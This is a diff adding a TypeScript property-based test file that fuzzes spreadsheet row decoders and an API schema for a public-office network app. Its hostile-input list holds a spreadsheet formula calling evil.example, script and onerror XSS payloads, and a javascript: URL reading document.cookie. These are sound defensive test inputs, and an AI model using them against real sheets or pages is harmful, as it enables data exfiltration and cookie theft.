@@ -1,0 +1,139 @@
+import {
+  type CellValue,
+  PracticeInputSchema,
+  decodeBuonePrassi,
+  decodeImpostazioni,
+  decodeReferenti,
+  decodeRiunioni,
+  formatProblem,
+  parseDateCell,
+  parseTimeCell,
+} from "@rete-urp/shared";
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+
+/**
+ * Whatever the coordinator (or anyone with edit rights) types into the sheet, decoding never
+ * throws, every problem names a cell, and text comes back as text: formulas stay strings.
+ */
+
+const hostileText = fc.oneof(
+  fc.string({ unit: "grapheme", maxLength: 80 }),
+  fc.string({ unit: "binary", maxLength: 80 }),
+  fc.constantFrom(
+    '=IMPORTXML("https://evil.example","//a")',
+    "+39 0545 000",
+    "-1",
+    "@SUM(A1)",
+    "<script>alert(1)</script>",
+    '<img src=x onerror="alert(1)">',
+    "javascript:alert(document.cookie)",
+    "data:text/html,<script>alert(1)</script>",
+    "\u0000\u0007\u001b[31m",
+    "31/02/2027",
+    "99:99",
+    "‮Lugo",
+    "Sant’Agata",
+  ),
+  fc.string({ minLength: 10_000, maxLength: 12_000 }),
+);
+
+const cell: fc.Arbitrary<CellValue> = fc.oneof(
+  hostileText,
+  fc.double({ noNaN: false }),
+  fc.integer({ min: -1e9, max: 1e9 }),
+  fc.boolean(),
+  fc.constant(null),
+);
+
+const row = (width: number) => fc.array(cell, { maxLength: width });
+
+const headersOf = (names: string[]) => fc.shuffledSubarray(names, { minLength: 0, maxLength: names.length });
+
+const decoders = [
+  { decode: decodeReferenti, headers: ["ID", "Nome", "Cognome", "Ente", "Ruolo", "Email", "Telefono", "Attivo", "Note", "Extra"] },
+  { decode: decodeRiunioni, headers: ["ID", "Data", "Inizio", "Fine", "Tipo", "Stato", "Luogo", "Videoconferenza", "Ordine del giorno", "Verbale", "Note"] },
+  { decode: decodeBuonePrassi, headers: ["ID", "Data", "Titolo", "Descrizione", "Link", "Estratto", "Tag", "Ente", "Autore", "Email autore"] },
+];
+
+describe("row codecs under generated input", () => {
+  for (const { decode, headers } of decoders) {
+    test(`${decode.name}() never throws and reports every problem with a tab and a cell`, () => {
+      fc.assert(
+        fc.property(headersOf(headers), fc.array(row(12), { maxLength: 15 }), (header, rows) => {
+          const decoded = decode([header, ...rows]);
+          for (const problem of decoded.problems) {
+            expect(formatProblem(problem)).toMatch(/^(Referenti|Riunioni|Buone prassi)(![A-Z]+\d+)?: ./);
+            expect(formatProblem(problem).length).toBeLessThan(300);
+          }
+          expect(decoded.records.length + decoded.problems.length).toBeGreaterThanOrEqual(0);
+        }),
+        { numRuns: 300 },
+      );
+    });
+  }
+
+  test("a practice's text cells come back exactly as typed (trimmed), formulas included", () => {
+    fc.assert(
+      fc.property(hostileText.filter((t) => t.trim() !== ""), (text) => {
+        const decoded = decodeBuonePrassi([
+          ["ID", "Data", "Titolo", "Descrizione", "Link"],
+          ["p-1", "03/11/2026", text, text, text],
+        ]);
+        expect(decoded.records[0]).toMatchObject({ title: text.trim(), description: text.trim(), url: text.trim() });
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  test("Impostazioni never throws and always yields usable settings", () => {
+    fc.assert(
+      fc.property(fc.array(row(3), { maxLength: 10 }), (rows) => {
+        const { settings } = decodeImpostazioni([["Chiave", "Valore"], ...rows]);
+        expect(settings.meetingMonths.length).toBeGreaterThan(0);
+        expect(settings.durationMinutes).toBeGreaterThan(0);
+        expect(settings.startTime).toMatch(/^\d{2}:\d{2}$/);
+      }),
+    );
+  });
+
+  test("dates and times out of range are rejected, never wrapped", () => {
+    fc.assert(
+      fc.property(cell, (value) => {
+        const date = parseDateCell(value);
+        if (date) {
+          expect(date.year).toBeGreaterThanOrEqual(1900);
+          expect(date.year).toBeLessThanOrEqual(2200);
+        }
+        const time = parseTimeCell(value);
+        if (time !== undefined) {
+          expect(time).toBeGreaterThanOrEqual(0);
+          expect(time).toBeLessThan(1440);
+        }
+      }),
+      { numRuns: 1000 },
+    );
+  });
+});
+
+describe("API bodies under generated input", () => {
+  test("PracticeInputSchema accepts only http(s) URLs and bounded text, and never throws", () => {
+    fc.assert(
+      fc.property(
+        fc.record(
+          { id: fc.oneof(fc.uuid(), hostileText), title: hostileText, url: fc.oneof(hostileText, fc.webUrl()), excerpt: hostileText, tags: fc.array(hostileText, { maxLength: 30 }), ente: hostileText },
+          { requiredKeys: [] },
+        ),
+        (body) => {
+          const parsed = PracticeInputSchema.safeParse(body);
+          if (parsed.success) {
+            const url = parsed.data.url ?? "";
+            expect(url === "" || /^https?:\/\//i.test(url)).toBe(true);
+            expect(parsed.data.title.length).toBeLessThanOrEqual(500);
+          }
+        },
+      ),
+      { numRuns: 500 },
+    );
+  });
+});
